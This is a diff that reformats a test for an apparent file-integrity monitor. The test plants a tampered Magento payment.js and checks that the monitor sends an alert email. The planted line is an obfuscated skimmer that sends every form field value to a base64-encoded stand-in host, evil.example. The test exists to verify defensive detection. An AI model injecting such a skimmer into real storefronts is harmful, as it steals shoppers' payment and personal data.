@@ -37,10 +37,16 @@ test('a file changed under ripcord run raises an integrity alert by email', { ti
     ].join('\n'),
   );
   const env = { ...process.env, RIPCORD_TEST_SCRYPT_N: '1024' };
-  const base = spawnSync(process.execPath, [cli, '-c', cfg, 'integrity', 'baseline', '--json'], { encoding: 'utf8', env });
+  const base = spawnSync(process.execPath, [cli, '-c', cfg, 'integrity', 'baseline', '--json'], {
+    encoding: 'utf8',
+    env,
+  });
   assert.equal(base.status, 0, base.stderr);
 
-  const child = spawn(process.execPath, [cli, '-c', cfg, 'run', '--poll-ms', '50'], { stdio: ['ignore', 'ignore', 'pipe'], env });
+  const child = spawn(process.execPath, [cli, '-c', cfg, 'run', '--poll-ms', '50'], {
+    stdio: ['ignore', 'ignore', 'pipe'],
+    env,
+  });
   let stderr = '';
   child.stderr.on('data', (d: Buffer) => (stderr = (stderr + d.toString()).slice(-8000)));
   t.after(async () => {
@@ -51,10 +57,20 @@ test('a file changed under ripcord run raises an integrity alert by email', { ti
   await until('the integrity watch to start', () => stderr.includes('integrity watch started'), 30_000);
 
   const js = 'pub/static/frontend/Harbor/pine/en_US/Magento_Checkout/js/view/payment.js';
-  appendFileSync(join(dir, 'site', js), "\n;document.addEventListener('change',function(e){navigator.sendBeacon(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'),e.target.value)});\n");
-  await until('the integrity email', () => smtp.mails.some((m) => m.subject.includes('payment.js') || m.text.includes('payment.js')), 30_000);
+  appendFileSync(
+    join(dir, 'site', js),
+    "\n;document.addEventListener('change',function(e){navigator.sendBeacon(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'),e.target.value)});\n",
+  );
+  await until(
+    'the integrity email',
+    () => smtp.mails.some((m) => m.subject.includes('payment.js') || m.text.includes('payment.js')),
+    30_000,
+  );
 
-  const check = spawnSync(process.execPath, [cli, '-c', cfg, 'integrity', 'check', '--json'], { encoding: 'utf8', env });
+  const check = spawnSync(process.execPath, [cli, '-c', cfg, 'integrity', 'check', '--json'], {
+    encoding: 'utf8',
+    env,
+  });
   assert.equal(check.status, 1, 'check exits 1 when files changed');
   assert.match(check.stdout, /payment\.js/);
 
